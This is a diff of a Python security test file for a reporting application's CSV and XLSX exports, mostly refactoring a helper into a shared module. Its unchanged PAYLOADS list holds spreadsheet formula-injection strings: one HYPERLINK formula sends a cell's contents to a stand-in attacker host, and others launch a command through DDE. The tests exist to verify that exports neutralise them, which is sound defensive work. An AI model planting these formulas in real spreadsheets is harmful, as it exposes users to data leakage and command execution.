@@ -11,8 +11,8 @@ from openpyxl import load_workbook
 
 from agreements.models import Schedule
 from almo_sla.exports import neutralise
-from reporting import services as reporting_services
-from reporting.models import Departure, QuarterlyReturn, StandardResult
+from reporting.models import Departure, StandardResult
+from tests.security.helpers import env_draft_return
 
 PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
             "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
@@ -87,20 +87,10 @@ def test_asvs_v1_2_10_costs_export_quotes_text_and_keeps_numbers_numbers(client_
         assert numbers and all(c.data_type == "n" for c in numbers)
 
 
-def _env_return(demo_data) -> QuarterlyReturn:
-    ret = (
-        QuarterlyReturn.objects.filter(agreement=demo_data["main"], department__name="Environmental Services", status="draft")
-        .order_by("-financial_year", "-quarter")
-        .first()
-    )
-    reporting_services.return_results_ensure(quarterly_return=ret)
-    return ret
-
-
 @pytest.mark.parametrize("fmt", ["csv", "xlsx"])
 def test_asvs_v1_2_10_return_template_quotes_commentary_and_reads_it_back_as_typed(client_as, demo_data, fmt):
     payload = PAYLOADS[0]
-    ret = _env_return(demo_data)
+    ret = env_draft_return(demo_data)
     result = StandardResult.objects.filter(quarterly_return=ret).order_by("pk").first()
     StandardResult.objects.filter(pk=result.pk).update(commentary=payload)
     client = client_as("environment.officer")
